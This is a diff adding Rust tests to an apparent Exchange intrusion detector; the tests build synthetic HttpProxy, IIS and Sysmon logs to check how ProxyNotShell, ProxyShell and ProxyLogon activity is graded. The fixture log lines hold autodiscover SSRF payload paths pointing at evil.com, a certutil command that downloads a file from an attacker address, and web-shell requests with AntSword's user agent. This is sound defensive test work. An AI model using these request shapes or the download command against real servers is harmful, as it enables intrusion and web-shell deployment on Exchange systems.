@@ -1,5 +1,7 @@
 //! Verdict precision (issue 13): one request in IIS and HttpProxy logs is one step graded on the
-//! HttpProxy view, and refused attempts are told apart from attempts of unknown outcome.
+//! HttpProxy view, builds rule campaigns out, generic indicators count for the campaign whose
+//! exploitation they are linked to, known checkers are scans, and refused attempts are told apart
+//! from attempts of unknown outcome.
 //!
 //! Each fixture is a small server tree written at test time in the shape of real logs (HttpProxy
 //! CSV with its directives, IIS W3C, a flattened Sysmon export), the near miss next to the hit.
@@ -62,6 +64,8 @@ fn write(root: &Path, rel: &str, text: &str) {
 }
 
 const PROXY_ECP: &str = "Program Files/Microsoft/Exchange Server/V15/Logging/HttpProxy/Ecp";
+const PROXY_AUTOD: &str =
+    "Program Files/Microsoft/Exchange Server/V15/Logging/HttpProxy/Autodiscover";
 const IIS: &str = "inetpub/logs/LogFiles/W3SVC1";
 
 fn scan(root: &Path) -> ServerResult {
@@ -361,5 +365,261 @@ fn iis_only_success_needs_the_httpproxy_view_to_be_missing() {
         pl.reasons.iter().any(|r| r.contains("unknown outcome")),
         "{:?}",
         pl.reasons
+    );
+}
+
+const CU23: &str = "15.01.2507.006";
+const PNS_IP: &str = "198.51.100.23";
+
+/// A ProxyNotShell intrusion in the public GTSC shape on Exchange 2016 CU23 (fixed for ProxyLogon
+/// and ProxyShell, not for ProxyNotShell): authenticated `autodiscover.json` SSRF to the
+/// PowerShell back end, a shipped page in `owa\auth` rewritten by w3wp, `certutil` run by w3wp,
+/// then the page used as a shell with the AntSword user agent (on the HAFNIUM list). `extra_iis`
+/// adds lines to the IIS log.
+fn proxynotshell_intrusion(root: &Path, extra_iis: &[String]) {
+    let ssrf_q = "@evil.com/powershell/?Email=autodiscover/autodiscover.json%3F@evil.com";
+    let mut proxy_lines = vec![proxy(&[
+        ("DateTime", "2022-09-20T00:00:03.000Z"),
+        ("Protocol", "Autodiscover"),
+        ("UrlStem", "/autodiscover/autodiscover.xml"),
+        ("HttpStatus", "200"),
+        ("Method", "POST"),
+        ("AuthenticatedUser", "CONTOSO\\alice"),
+        ("ClientIpAddress", "10.1.0.44"),
+    ])];
+    let mut iis_lines = Vec::new();
+    for (t, iis_t, id) in [
+        (
+            "2022-09-20T03:10:01.204Z",
+            "03:10:01",
+            "5e2b11aa-0000-4000-8000-000000000001",
+        ),
+        (
+            "2022-09-20T03:10:04.733Z",
+            "03:10:05",
+            "5e2b11aa-0000-4000-8000-000000000002",
+        ),
+    ] {
+        proxy_lines.push(proxy(&[
+            ("DateTime", t),
+            ("RequestId", id),
+            ("Protocol", "Autodiscover"),
+            ("UrlStem", "/autodiscover/autodiscover.json"),
+            ("UrlQuery", &format!("?{ssrf_q}")),
+            ("AuthenticationType", "Basic"),
+            ("IsAuthenticated", "true"),
+            ("AuthenticatedUser", "CONTOSO\\svc-scan"),
+            ("UserAgent", "python-requests/2.28.1"),
+            ("ClientIpAddress", PNS_IP),
+            ("HttpStatus", "200"),
+            ("Method", "POST"),
+        ]));
+        iis_lines.push(format!(
+            "2022-09-20 {iis_t} 10.1.0.10 POST /autodiscover/autodiscover.json {ssrf_q} 443 CONTOSO\\svc-scan {PNS_IP} python-requests/2.28.1 - 200 0 0 80"
+        ));
+    }
+    proxy_lines.push(proxy(&[
+        ("DateTime", "2022-09-21T23:59:01.000Z"),
+        ("Protocol", "Autodiscover"),
+        ("UrlStem", "/autodiscover/autodiscover.xml"),
+        ("HttpStatus", "200"),
+        ("Method", "POST"),
+        ("AuthenticatedUser", "CONTOSO\\alice"),
+        ("ClientIpAddress", "10.1.0.44"),
+    ]));
+    // The shell in use, from another address, with AntSword's user agent.
+    for (tm, n) in [("03:21:40", 1), ("03:25:02", 2), ("04:02:13", 3)] {
+        iis_lines.push(format!(
+            "2022-09-20 {tm} 10.1.0.10 POST /owa/auth/RedirSuiteServiceProxy.aspx - 443 - 203.0.113.{n} antSword/v2.1 - 200 0 0 15"
+        ));
+    }
+    iis_lines.extend(extra_iis.iter().cloned());
+    write(
+        root,
+        &format!("{PROXY_AUTOD}/HttpProxy_2022092000-1.LOG"),
+        &proxy_file(CU23, "2022-09-20T00:00:00.000Z", &proxy_lines),
+    );
+    iis_lines.sort();
+    write(
+        root,
+        &format!("{IIS}/u_ex220920.log"),
+        &iis_file("2022-09-20 00:00:00", &iis_lines),
+    );
+    let host = "EX01.contoso.local";
+    let events = [
+        serde_json::json!({"EventTime": "2022-09-20 03:12:30", "Hostname": host,
+            "Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 1, "SourceName": "Microsoft-Windows-Sysmon",
+            "Image": "C:\\Windows\\System32\\certutil.exe", "ParentImage": "C:\\Windows\\System32\\inetsrv\\w3wp.exe",
+            "CommandLine": "certutil -urlcache -split -f http://198.51.100.23/a.txt C:\\Users\\Public\\a.txt"}),
+        serde_json::json!({"EventTime": "2022-09-20 03:14:02", "Hostname": host,
+            "Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 11, "SourceName": "Microsoft-Windows-Sysmon",
+            "Image": "C:\\Windows\\System32\\inetsrv\\w3wp.exe",
+            "TargetFilename": "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\RedirSuiteServiceProxy.aspx"}),
+    ];
+    let text: String = events.iter().map(|e| format!("{e}\n")).collect();
+    write(root, "events/ex01-sysmon.jsonl", &text);
+}
+
+#[test]
+fn proxynotshell_intrusion_on_cu23_is_proxynotshell_only() {
+    let t = tempfile::tempdir().unwrap();
+    proxynotshell_intrusion(t.path(), &[]);
+    let s = scan(t.path());
+    let v = |c| verdict(&s, c).verdict;
+    assert_eq!(
+        v(Campaign::ProxyNotShell),
+        VerdictKind::Compromised,
+        "{}",
+        show(&s)
+    );
+    assert_ne!(
+        v(Campaign::ProxyLogon),
+        VerdictKind::Compromised,
+        "{}",
+        show(&s)
+    );
+    assert_ne!(
+        v(Campaign::ProxyShell),
+        VerdictKind::Compromised,
+        "{}",
+        show(&s)
+    );
+    assert_ne!(
+        v(Campaign::ProxyLogon),
+        VerdictKind::Attempted,
+        "{}",
+        show(&s)
+    );
+    // Every finding is ProxyNotShell's or post-exploitation.
+    for f in &s.findings {
+        assert!(
+            matches!(
+                f.campaign,
+                Campaign::ProxyNotShell | Campaign::PostExploitation
+            ),
+            "{} {:?} {}",
+            f.rule_id,
+            f.campaign,
+            f.title
+        );
+    }
+    // The requests for the page w3wp rewrote belong to ProxyNotShell, and so do the AntSword
+    // requests (a request for the file its chain wrote), though the user agent is on the
+    // HAFNIUM list.
+    let used: Vec<&Finding> = s
+        .findings
+        .iter()
+        .filter(|f| f.rule_id == "EXH-PL-9")
+        .collect();
+    assert_eq!(used.len(), 3, "{}", show(&s));
+    assert!(used.iter().all(|f| f.campaign == Campaign::ProxyNotShell
+        && f.stage == Stage::WebShellUse
+        && f.title.contains("ProxyNotShell")));
+    let ua: Vec<&Finding> = s
+        .findings
+        .iter()
+        .filter(|f| f.rule_id == "EXH-IOC-2")
+        .collect();
+    assert_eq!(ua.len(), 3, "{}", show(&s));
+    assert!(ua.iter().all(|f| f.campaign == Campaign::ProxyNotShell
+        && f.title.contains("published 2021-03-02 for ProxyLogon")));
+    // The SSRF seen in IIS and HttpProxy is one step.
+    let pns_steps: Vec<_> = s
+        .story
+        .iter()
+        .filter(|st| st.stage == Stage::ExploitSuccess)
+        .collect();
+    assert_eq!(pns_steps.len(), 1, "{:#?}", s.story);
+    assert_eq!(pns_steps[0].count, 4);
+}
+
+/// On the same server, request shapes of ProxyShell and ProxyLogon answered 200 are attempts at
+/// most (the build was fixed for both), with the reason; an indicator hit linked to nothing is
+/// post-exploitation; the public ProxyNotShell checker request is a ProxyNotShell scan.
+#[test]
+fn builds_rule_out_campaigns_and_checkers_are_scans() {
+    let t = tempfile::tempdir().unwrap();
+    proxynotshell_intrusion(
+        t.path(),
+        &[
+            // ProxyShell's shape, anonymous, answered 200.
+            "2022-09-20 01:00:01 10.1.0.10 POST /autodiscover/autodiscover.json @evil.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.com 443 - 192.0.2.80 python-requests/2.26.0 - 200 0 0 80".into(),
+            // ProxyLogon's IIS shape answered 200 (no HttpProxy ECP log).
+            "2022-09-20 01:05:00 10.1.0.10 POST /ecp/y.js - 443 - 192.0.2.81 Mozilla/5.0 - 200 0 0 31".into(),
+            // The public ProxyNotShell checker, anonymous, answered 302.
+            "2022-09-20 01:30:00 10.1.0.10 GET /autodiscover/autodiscover.json a..foo.var/owa/&Email=autodiscover/autodiscover.json%3Fa..foo.var&Protocol=XYZ&FooProtocol=Powershell 443 - 192.0.2.82 Mozilla/5.0 - 302 0 0 3".into(),
+            // nuclei's form of it, and the ProxyShell checkers (nuclei, Nessus).
+            "2022-09-20 01:30:01 10.1.0.10 GET /autodiscover/autodiscover.json a@foo.var/owa/?&Email=autodiscover/autodiscover.json?a@foo.var&Protocol=XYZ&FooProtocol=Powershell 443 - 192.0.2.82 Mozilla/5.0 - 302 0 0 3".into(),
+            "2022-09-20 01:30:02 10.1.0.10 GET /autodiscover/autodiscover.json @mss.com/owa/?&Email=autodiscover/autodiscover.json%3F@mss.com 443 - 192.0.2.82 Mozilla/5.0 - 302 0 0 3".into(),
+            "2022-09-20 01:30:03 10.1.0.10 GET /owa/ &Email=autodiscover/autodiscover.json%3F@test.com&ClientId=XBZOZEQYJZXJMODOB&Protocol=PowerShell 443 - 192.0.2.82 Mozilla/5.0 - 302 0 0 3".into(),
+            // A HAFNIUM address, two days later, nothing to do with the intrusion.
+            "2022-09-22 09:00:00 10.1.0.10 GET /owa/ - 443 - 104.140.114.110 Mozilla/5.0 - 302 0 0 3".into(),
+        ],
+    );
+    let s = scan(t.path());
+    let ps = verdict(&s, Campaign::ProxyShell);
+    assert_eq!(ps.verdict, VerdictKind::Attempted, "{}", show(&s));
+    assert!(
+        ps.reasons
+            .iter()
+            .any(|r| r.contains("build 15.1.2507.6 was not vulnerable to ProxyShell")),
+        "{:?}",
+        ps.reasons
+    );
+    let pl = verdict(&s, Campaign::ProxyLogon);
+    assert_eq!(pl.verdict, VerdictKind::Attempted, "{}", show(&s));
+    assert!(
+        pl.reasons
+            .iter()
+            .any(|r| r.contains("not vulnerable to ProxyLogon"))
+    );
+    for rule in ["EXH-PS-1", "EXH-PL-4"] {
+        let f = s
+            .findings
+            .iter()
+            .find(|f| {
+                f.rule_id == rule
+                    && f.timestamp
+                        .is_some_and(|t| t.to_rfc3339().as_str() < "2022-09-20T01:10")
+            })
+            .unwrap();
+        assert_eq!(f.stage, Stage::ExploitAttempt, "{}", f.title);
+        assert_eq!(f.outcome, Some(Outcome::Refused));
+        assert!(f.title.contains("was not vulnerable"), "{}", f.title);
+    }
+    // The checkers: scans only, each counted for the campaign it tests.
+    let checks: Vec<&Finding> = s
+        .findings
+        .iter()
+        .filter(|f| f.entities.client_ip.as_deref() == Some("192.0.2.82"))
+        .collect();
+    assert_eq!(checks.len(), 4, "{}", show(&s));
+    assert!(
+        checks.iter().all(|f| f.stage == Stage::Scan),
+        "{}",
+        show(&s)
+    );
+    assert_eq!(checks[0].campaign, Campaign::ProxyNotShell);
+    assert!(
+        checks[0].title.contains("known checker"),
+        "{}",
+        checks[0].title
+    );
+    assert_eq!(checks[2].campaign, Campaign::ProxyShell);
+    // The unlinked indicator hit is post-exploitation, not ProxyLogon.
+    let ip = s
+        .findings
+        .iter()
+        .find(|f| f.rule_id == "EXH-IOC-1")
+        .unwrap();
+    assert_eq!(ip.campaign, Campaign::PostExploitation, "{}", ip.title);
+    assert!(
+        ip.title.contains("no link to an exploitation"),
+        "{}",
+        ip.title
+    );
+    assert_eq!(
+        verdict(&s, Campaign::ProxyNotShell).verdict,
+        VerdictKind::Compromised
     );
 }
